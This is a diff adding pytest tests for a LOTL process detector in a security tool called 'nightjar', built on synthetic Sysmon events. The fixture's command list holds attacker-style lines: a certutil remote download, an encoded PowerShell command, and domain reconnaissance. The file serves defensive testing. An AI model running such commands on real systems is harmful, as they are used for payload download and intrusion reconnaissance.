@@ -154,3 +154,57 @@ def test_scan_raises_a_host_alert_for_a_client_resolving_many_dga_like_names(tmp
     assert len(hosts) == 1 and "resolves many DGA-like names" in hosts[0]["nightjar"]["dga"]["reasons"]
     again = run_scan([log], store=tmp_path / "a.db", detectors=["dga"], models={"dga": MODEL})
     assert again.new_alerts == 0  # the host alert has a stable id too
+
+
+def _process_evtx(path: Path, n: int = 150) -> Path:
+    """`n` Sysmon process creations on two hosts; most are children of an earlier event's process."""
+    import datetime as dt
+
+    from tests.fixtures.evtx_writer import WinEvent, write_evtx
+
+    commands = ["certutil -urlcache -f http://a/b c.exe", "cmd /c whoami", "powershell -enc SQBFAFgA", "notepad.exe a.txt",
+                "reg query HKLM\\Software", "net user bob /domain", "cmd /c echo %RANDOM%"]
+    t0, events = dt.datetime(2026, 1, 1, 10, tzinfo=dt.timezone.utc), []
+    for i in range(n):
+        cmd = commands[(i * 5) % len(commands)] + ("" if i % 3 else f" {i}")
+        events.append(WinEvent(1, "Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", f"WS{i % 2}", t0 + dt.timedelta(seconds=i),
+                               {"ProcessId": str(1000 + i), "ProcessGuid": f"{{{i}}}", "Image": f"C:\\Windows\\System32\\{cmd.split()[0]}",
+                                "CommandLine": cmd, "ParentImage": f"C:\\Windows\\System32\\{commands[i % 4].split()[0]}",
+                                "ParentProcessGuid": f"{{{i // 2}}}", "ParentProcessId": str(1000 + i // 2), "User": "CORP\\bob"}))
+    write_evtx(path, events)
+    return path
+
+
+def test_lotl_output_does_not_depend_on_batch_rows(tmp_path: Path) -> None:
+    """Rarity's running counts, grandparents from earlier batches and the CSV written batch by batch: the same
+    bytes whether the input is scored in one batch or in batches of 1 and 7 rows."""
+    from nightjar.detectors.lotl import LotlDetector
+
+    evtx, model = _process_evtx(tmp_path / "p.evtx"), Path(MODEL).parent / "lotl"
+    outputs = []
+    for rows in (65536, 7, 1):
+        det = LotlDetector.load(model)
+        det.rarity_.min_history = 20  # so that rarity judges these small hosts
+        out = tmp_path / f"out{rows}.csv"
+        run_score("lotl", [evtx], out, detector=det, batch_rows=rows, read_ahead=False, views={"trees": tmp_path / f"trees{rows}.csv"})
+        outputs.append((out.read_bytes(), (tmp_path / f"trees{rows}.csv").read_bytes()))
+    assert outputs[0] == outputs[1] == outputs[2]
+    scored = pd.read_csv(tmp_path / "out1.csv")
+    assert len(scored) == 150 and scored["reasons"].str.contains("on this host", na=False).any()
+
+
+def test_a_failed_run_leaves_no_partial_output(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    from nightjar.detectors.lotl import LotlDetector
+
+    evtx, out = _process_evtx(tmp_path / "p.evtx"), tmp_path / "out.csv"
+    det, calls = LotlDetector.load(Path(MODEL).parent / "lotl"), []
+
+    def observe_then_fail(events: pd.DataFrame) -> None:
+        calls.append(len(events))
+        if len(calls) == 3:
+            raise RuntimeError("disk full")
+
+    monkeypatch.setattr(det, "observe", observe_then_fail)
+    with pytest.raises(RuntimeError, match="disk full"):
+        run_score("lotl", [evtx], out, detector=det, batch_rows=10, read_ahead=False)
+    assert calls == [10, 10, 10] and not out.exists() and not list(tmp_path.glob("*.part"))
